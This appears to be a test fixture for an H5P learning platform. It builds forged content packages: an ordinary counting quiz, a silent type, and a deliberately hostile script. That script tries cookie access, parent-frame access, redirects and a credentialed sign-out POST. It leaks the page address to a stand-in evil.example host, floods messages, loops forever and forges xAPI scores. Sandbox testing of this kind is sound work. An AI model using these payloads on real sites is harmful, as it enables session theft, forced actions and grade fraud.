import { forgeZip } from '../../app/platform/h5p/forged-package'

/** A package of one content type of its own, whose whole behaviour is the script given. */
export function packageOf(name: string, title: string, script: string, content: object = {}): Buffer {
  const library = { machineName: name, majorVersion: 1, minorVersion: 0 }
  const json = JSON.stringify
  return forgeZip([
    { name: 'h5p.json', data: json({ title, language: 'vi', mainLibrary: name, embedTypes: ['div'], license: 'U', preloadedDependencies: [library] }) },
    { name: 'content/content.json', data: json({ ...content, ok: true }) },
    { name: `${name}-1.0/library.json`, data: json({ ...library, title, patchVersion: 0, runnable: 1, preloadedJs: [{ path: 'type.js' }] }) },
    { name: `${name}-1.0/type.js`, data: script },
  ])
}

/** A type that asks one number, keeps what is typed, and reports it in total after two parts that have it for parent. */
export const COUNTING = `
var H5P = H5P || {};
H5P.TestCounting = (function () {
  function Counting(params, id, extras) {
    H5P.EventDispatcher.call(this);
    var self = this, typed = (extras && extras.previousState && extras.previousState.typed) || '';
    this.contentId = id;
    this.attach = function ($container) {
      var box = document.createElement('div');
      box.innerHTML = '<label>Số <input type="text" id="n"></label> <button type="button">Nộp</button> <output></output>';
      var input = box.querySelector('input');
      input.value = typed;
      input.addEventListener('input', function () { typed = input.value; });
      box.querySelector('button').addEventListener('click', function () {
        for (var part = 0; part < 2; part += 1) {
          var child = self.createXAPIEventTemplate('answered');
          child.data.statement.context = { contextActivities: { parent: [{ objectType: 'Activity', id: child.data.statement.object.id }] } };
          child.setScoredResult(1, 1, self, true, true);
          self.trigger(child);
        }
        var whole = self.createXAPIEventTemplate('completed');
        whole.setScoredResult(Number(typed), 5, self, true);
        self.trigger(whole);
        box.querySelector('output').textContent = 'đã nộp ' + typed;
      });
      $container.get(0).appendChild(box);
    };
    this.getCurrentState = function () { return { typed: typed }; };
    this.getScore = function () { return Number(typed); };
    this.getMaxScore = function () { return 5; };
    this.getTitle = function () { return 'Đếm'; };
  }
  Counting.prototype = Object.create(H5P.EventDispatcher.prototype);
  Counting.prototype.constructor = Counting;
  return Counting;
})();
`

/** A type that shows a text and reports nothing at all. */
export const SILENT = `
var H5P = H5P || {};
H5P.TestSilent = function () {
  this.attach = function ($container) { $container.get(0).appendChild(document.createTextNode('Chỉ để đọc.')); };
};
`

/** A type that tries to gain what is not its own, and writes down what it gained. \`mode\`: everything, loop, leave, flood. */
export const HOSTILE = `
var H5P = H5P || {};
H5P.TestHostile = function (params, id) {
  H5P.EventDispatcher.call(this);
  var self = this;
  this.attach = function ($container) {
    var box = document.createElement('div');
    $container.get(0).appendChild(box);
    var gained = [], waiting = [];
    function attempt(name, use) {
      try {
        var got = use();
        if (got && typeof got.then === 'function') waiting.push(got.then(function (value) { if (value) gained.push(name); }, function () {}));
        else if (got) gained.push(name);
      } catch (error) {}
    }
    if (params.mode === 'loop') { setTimeout(function () { for (;;) {} }, 300); box.textContent = 'sắp lặp'; return; }
    if (params.mode === 'leave') { box.textContent = 'sắp đi'; setTimeout(function () { location.href = location.href + '?again'; }, 500); return; }
    if (params.mode === 'flood') {
      box.textContent = 'sắp tràn';
      setTimeout(function () {
        var page = window.parent;
        for (var n = 0; n < 50000; n += 1) { self.trigger(self.createXAPIEventTemplate('answered')); page.postMessage({ n: n }, '*'); }
      }, 2500);
      return;
    }
    var answered = function (url, init) { return fetch(url, init).then(function (answer) { return answer.ok; }); };
    attempt('cookie', function () { return document.cookie; });
    attempt('cookie-set', function () { document.cookie = 'evil=1'; return document.cookie.indexOf('evil') >= 0; });
    attempt('parent', function () { return window.parent.document.title; });
    attempt('parent-address', function () { return window.parent.location.href; });
    attempt('top', function () { return window.top.document.body; });
    attempt('navigation', function () { window.parent.location = 'https://evil.example/'; return false; });
    attempt('navigation-top', function () { window.top.location = 'https://evil.example/'; return false; });
    attempt('caches', function () { return caches.open('x').then(function () { return true; }); });
    attempt('indexed-db', function () { return indexedDB.open('x') && true; });
    attempt('service-worker', function () { return navigator.serviceWorker.register('/x.js').then(function () { return true; }); });
    attempt('api', function () { return answered('/account', { credentials: 'include' }); });
    attempt('api-post', function () { return answered('/sign-out', { method: 'POST', credentials: 'include' }); });
    attempt('beacon-elsewhere', function () { return answered('https://evil.example/', { mode: 'no-cors' }).then(function () { return true; }); });
    attempt('popup', function () { return window.open('https://evil.example/'); });
    attempt('worker', function () { return new Promise(function (yes) { var worker = new Worker('data:text/javascript,postMessage(1)'); worker.onmessage = function () { yes(true); }; worker.onerror = function () { yes(false); }; setTimeout(yes, 1500); }); });
    attempt('frame', function () { return new Promise(function (yes) { var frame = document.createElement('iframe'); frame.src = '/account'; document.body.appendChild(frame); setTimeout(function () { var reached = false; try { reached = Boolean(frame.contentDocument && frame.contentDocument.body.textContent); } catch (error) {} yes(reached); }, 1200); }); });
    attempt('image', function () { return new Promise(function (yes) { var image = new Image(); image.onload = function () { yes(true); }; image.onerror = function () { yes(false); }; image.src = 'https://evil.example/?c=' + encodeURIComponent(location.href); }); });
    attempt('form', function () { var form = document.createElement('form'); form.method = 'post'; form.action = '/sign-out'; document.body.appendChild(form); form.submit(); return false; });
    attempt('eval', function () { return eval('1'); });
    var deep = {}, lies = [
      function (told) { told.result.score.raw = 99; },
      function (told) { told.object = { objectType: 'Activity', id: 'https://evil.example/another-exercise' }; },
      function (told) { told.result.score.raw = -7; },
      function (told) { told.result.score.raw = '5'; },
      function (told) { told.result.score.min = 9; },
      function (told) { told.result.score.scaled = 19; },
      function (told) { told.result.duration = 'PT-5S'; },
      function (told) { told.verb = { id: 'https://evil.example/verbs/won' }; },
      function (told) { told.context = { contextActivities: { parent: [{ id: 'https://evil.example/set' }] } }; },
      function (told) { for (var n = 0, at = deep; n < 200; n += 1) at = at.a = {}; told.result.extensions = deep; }
    ];
    lies.forEach(function (lie) {
      var forged = self.createXAPIEventTemplate('completed');
      forged.data.statement.result = { score: { raw: 5, min: 0, max: 5 }, completion: true };
      lie(forged.data.statement);
      self.trigger(forged);
    });
    Promise.all(waiting).then(function () { box.textContent = 'được: ' + (gained.join(', ') || 'không gì'); });
  };
};
H5P.TestHostile.prototype = Object.create(H5P.EventDispatcher.prototype);
`
